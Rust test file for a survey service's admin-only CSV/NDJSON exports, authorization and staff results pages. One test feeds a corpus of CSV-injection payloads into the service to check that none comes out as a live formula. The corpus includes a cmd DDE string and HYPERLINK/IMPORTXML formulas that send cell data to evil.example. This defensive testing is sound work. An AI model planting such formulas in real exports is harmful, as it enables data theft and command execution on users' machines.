//! The responses for the bearer of the admin token.

use axum::http::StatusCode;
use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use expect_test::expect;
use serde_json::Value;
use serde_json::json;

use crate::support::Place;
use crate::support::Service;
use crate::support::TOKEN;
use crate::support::definition;
use crate::support::hash_of;
use crate::support::response;
use crate::support::response_with;

/// The export read back as a spreadsheet does: the head, and one map for every row.
fn table(csv: &str) -> (Vec<String>, Vec<Value>) {
    let csv = csv.strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let head: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows = reader.records().map(|row| {
        let row = row.unwrap();
        Value::Object(head.iter().cloned().zip(row.iter().map(|cell| json!(cell))).collect())
    });
    let rows = rows.collect();
    (head, rows)
}

async fn with_id(service: &Service, mut response: Value, id: &str) {
    response["id"] = json!(id);
    let reply = service.deliver(&response).await;
    assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.text());
}

on_every_database! {
    async fn a_response_is_one_row_with_codes_words_and_numbers_apart(place: Place) {
        let service = place.open().await;
        let mut first = response_with(json!({
            "safe": {"choice": "no", "language": "cy"}, "why": {"text": "mae'r dŵr yn dod i mewn", "language": "cy"},
            "rooms": {"choices": ["kitchen", "bath"], "language": "en"}, "degrees": {"number": -4.5, "language": "en"}}));
        first["context"] = json!({"estate": "=Elm"});
        let mut second = response_with(json!({
            "safe": {"choice": "yes", "language": "en"}, "rooms": {"soft": "dont_know", "language": "en"}}));
        second["mode"] = json!("kiosk");
        with_id(&service, second, "b0000000-0000-4000-8000-000000000000").await;
        with_id(&service, first, "a0000000-0000-4000-8000-000000000000").await;

        let csv = service.export("csv").await;
        assert!(csv.contains(",-4.5,"), "numbers are bare: {csv}");
        let (head, mut rows) = table(&csv);
        assert_eq!(head.join(" "), "id reference survey version mode started finished final received late languages marks \
            safe why rooms.kitchen rooms.bath rooms.none rooms degrees note context.estate");
        for row in &mut rows {
            assert_eq!(row["reference"].as_str().unwrap().len(), 9);
            assert_eq!(row["received"].as_str().unwrap().len(), 10, "a day and no time");
            row["reference"] = json!("…");
            row["received"] = json!("…");
        }
        let cells: Vec<String> = rows
            .iter()
            .map(|row| head.iter().map(|name| row[name].as_str().unwrap()).collect::<Vec<_>>().join("|"))
            .collect();
        expect![[r#"
            a0000000-0000-4000-8000-000000000000|…|doors|1|web|2026-11-20|2026-11-20|yes|…|no|cy en||no|mae'r dŵr yn dod i mewn|1|1|0||-4.5||'=Elm
            b0000000-0000-4000-8000-000000000000|…|doors|1|kiosk|2026-11-20|2026-11-20|yes|…|no|en||yes|||||dont_know|||"#]]
        .assert_eq(&cells.join("\n"));
    }

    async fn the_columns_cover_all_versions_and_late_responses_are_marked(place: Place) {
        let service = place.open().await;
        service.deliver(&response_with(json!({
            "safe": {"choice": "yes", "language": "en"}, "note": {"text": "old", "language": "en"}}))).await;
        service.collector.close().await;
        let mut next = definition("2");
        next["closes"] = json!("2020-01-01");
        next["pages"][0]["questions"][4] = json!({"id": "colour", "type": "short_text", "title": "Which colour?"});
        place.write("surveys/doors.json", &next.to_string());
        let service = place.open().await;
        let mut new = response_with(json!({
            "safe": {"choice": "yes", "language": "en"}, "colour": {"text": "red", "language": "en"}}));
        new["survey"] = json!({"id": "doors", "version": "2", "hash": hash_of(&next)});
        assert_eq!(service.deliver(&new).await.status, StatusCode::CREATED);

        let (head, mut rows) = table(&service.export("csv").await);
        assert_eq!(head[head.len() - 4..].join(" "), "degrees colour note context.estate");
        rows.sort_by_key(|row| row["version"].to_string());
        assert_eq!((&rows[0]["note"], &rows[0]["colour"], &rows[0]["late"]), (&json!("old"), &json!(""), &json!("no")));
        assert_eq!((&rows[1]["note"], &rows[1]["colour"], &rows[1]["late"]), (&json!(""), &json!("red"), &json!("yes")));
    }

    async fn an_export_of_several_pages_is_complete_and_in_the_order_of_ids(place: Place) {
        let service = place.open().await;
        for _ in 0..230 {
            assert_eq!(service.deliver(&response()).await.status, StatusCode::CREATED);
        }
        let (_, rows) = table(&service.export("csv").await);
        let ids: Vec<&str> = rows.iter().map(|row| row["id"].as_str().unwrap()).collect();
        assert_eq!(ids.len(), 230);
        assert!(ids.is_sorted());
        assert_eq!(service.stored().await.len(), 230);
    }

    async fn programs_get_the_words_unchanged(place: Place) {
        let service = place.open().await;
        let response = response_with(json!({"safe": {"choice": "yes", "language": "en"}, "note": {"text": "=1+1", "language": "en"}}));
        let receipt = service.deliver_text(response["id"].as_str().unwrap(), format!("{response:#}")).await.json();
        let stored = service.stored().await;
        assert_eq!(stored[0]["response"], response);
        assert_eq!(stored[0]["reference"], receipt["reference"]);
        assert_eq!(stored[0]["hash"], receipt["hash"]);
    }

    async fn no_answer_becomes_a_formula(place: Place) {
        let service = place.open().await;
        // After OWASP's page on CSV injection and the payloads that circulate with it. A carriage return is
        // never stored: an answer's lines end in one way, or it is refused.
        let corpus = [
            "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"go\")",
            "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
            "\u{feff}=1+1", "\u{200b}=1+1", "x\n=1+1", "x\t=1+1", "x;=1+1", "x; @SUM(1,1)", "\"=1+1", "x\";=1+1;\"",
            "=1+1\",\"=2+2",
        ];
        for payload in corpus {
            let answer = json!({"safe": {"choice": "no", "language": "en"}, "why": {"text": payload, "language": "en"}});
            let reply = service.deliver(&response_with(answer)).await;
            assert_eq!(reply.status, StatusCode::CREATED, "{payload:?}: {}", reply.text());
        }
        let csv = service.export("csv").await;
        // As a program reads it that takes commas, semicolons or tabs for the ends of cells.
        for delimiter in *b",;\t" {
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(delimiter).flexible(true).has_headers(false).from_reader(csv.as_bytes());
            for row in reader.byte_records() {
                for cell in &row.unwrap() {
                    let cell = String::from_utf8_lossy(cell);
                    let start = cell.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '"' | '\u{feff}' | '\u{200b}'));
                    assert!(!start.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{cell:?}");
                }
            }
        }
        assert_eq!(table(&csv).1.len(), corpus.len());
    }

    async fn only_the_bearer_of_the_token_gets_an_export(place: Place) {
        let service = place.open().await;
        for path in ["/v1/surveys/doors/responses.csv", "/v1/surveys/doors/responses.ndjson"] {
            let longer = format!("Bearer {TOKEN}0");
            let shorter = format!("Bearer {}", &TOKEN[1..]);
            for value in ["", "Bearer", "Bearer ", &longer, &shorter, &TOKEN.replace('0', "1"), TOKEN, &format!("Basic {TOKEN}")] {
                let reply = service.get_with(path, "authorization", value).await;
                assert_eq!((reply.status, reply.code()), (StatusCode::UNAUTHORIZED, "unauthorized".to_owned()), "{value}");
                assert_eq!(reply.header("www-authenticate"), "Bearer");
            }
            assert_eq!(service.get(path).await.status, StatusCode::UNAUTHORIZED);
            let reply = service.get_with(path, "authorization", &format!("bearer {TOKEN}")).await;
            assert_eq!(reply.status, StatusCode::OK);
            assert_eq!(reply.header("cache-control"), "no-store");
            assert!(reply.header("content-disposition").starts_with("attachment; filename=\"doors."));
        }
    }

    async fn results_are_counts_shares_base_and_margin_once_there_are_enough_of_them(place: Place) {
        let service = place.open().await;
        let yes = |code: &str| json!({"safe": {"choice": code, "language": "en"}});
        let page = || service.download("/staff/results/doors");
        assert!(page().await.contains("No answers yet."));
        for _ in 0..9 {
            service.deliver(&response_with(yes("yes"))).await;
        }
        let html = page().await;
        assert!(html.contains("9 answers: too few to show.") && !html.contains("100%"), "{html}");
        for _ in 0..3 {
            service.deliver(&response_with(yes("no"))).await;
        }
        let html = page().await;
        for words in [
            "<td>9</td><td>75%<svg class=\"bar\" viewBox=\"0 0 100 1\"",
            "<rect width=\"75.0\" height=\"1\">",
            "<td>3</td><td>25%",
            "12 answers, margin of error ±28.3 percentage points. <strong>Few answers.</strong>",
            "<dd><strong>12</strong>, as of <time datetime=",
        ] {
            assert!(html.contains(words), "{words} in {html}");
        }
        assert!(!html.contains("style=") && !html.contains("<script"), "the policy stands: {html}");
    }

    /// An officer has a browser and a password, and no program that sends a header.
    async fn staff_find_every_survey_with_its_results_from_any_staff_page(place: Place) {
        place.write("surveys/round.json", include_str!("../../../../examples/halo/repairs-2026-12.json"));
        let service = place.open().await;
        service.deliver(&response()).await;
        let page = "/staff/results";
        for address in ["/staff/", "/staff/outcomes", "/staff/hooks"] {
            assert!(service.download(address).await.contains(&format!("href=\"{page}\"")), "{address}");
        }
        let html = service.download(page).await;
        assert!(html.contains("href=\"/staff/results/doors\""), "{html}");
        assert_eq!(html.matches("<th scope=\"row\">").count(), 1, "rounds have a digest: {html}");
        assert!(html.contains("<td>1</td>"), "{html}");
        for file in ["responses.csv", "codebook.csv"] {
            let address = format!("{page}/doors/{file}");
            assert!(html.contains(&format!("href=\"{address}\"")), "{html}");
            assert_eq!(service.download(&address).await, service.download(&format!("/v1/surveys/doors/{file}")).await);
            let refused = service.get(&address).await;
            assert_eq!(refused.status, StatusCode::UNAUTHORIZED, "{address}");
            assert!(refused.header("www-authenticate").starts_with("Basic"), "a browser asks who it is");
        }
        let refused = service.get("/staff/results/doors").await;
        assert_eq!(refused.status, StatusCode::UNAUTHORIZED);
        assert_eq!(service.download_status("/staff/results/repairs-2026-12").await, StatusCode::NOT_FOUND, "a round has a digest");
        let signed_in = axum::http::Request::get(format!("{page}/doors/responses.csv"))
            .header("authorization", format!("Basic {}", BASE64_STANDARD.encode(format!("ann:{TOKEN}"))))
            .body(axum::body::Body::empty());
        let reply = service.send(signed_in.unwrap()).await;
        assert_eq!((reply.status, reply.header("content-type")), (StatusCode::OK, "text/csv; charset=utf-8"));
        assert_eq!(service.download_status(&format!("{page}/nobody/responses.csv")).await, StatusCode::NOT_FOUND);
    }
}

#[tokio::test]
async fn without_a_token_exports_are_off_and_say_how_to_turn_them_on() {
    let mut place = Place::on_sqlite();
    place.config.admin_token = None;
    let service = place.open().await;
    for value in ["", "Bearer ", "Bearer null"] {
        let reply = service.get_with("/v1/surveys/doors/responses.csv", "authorization", value).await;
        assert_eq!((reply.status, reply.code()), (StatusCode::FORBIDDEN, "export-off".to_owned()));
        assert!(reply.text().contains("no admin token is configured"));
    }
}

#[tokio::test]
async fn an_export_of_nothing_has_its_head_and_one_of_no_survey_is_not_found() {
    let service = Place::on_sqlite().open().await;
    assert!(table(&service.export("csv").await).1.is_empty());
    assert_eq!(service.export("ndjson").await, "");
    let bearer = format!("Bearer {TOKEN}");
    let reply = service.get_with("/v1/surveys/nothing/responses.csv", "authorization", &bearer).await;
    assert_eq!(reply.code(), "unknown-survey");
}
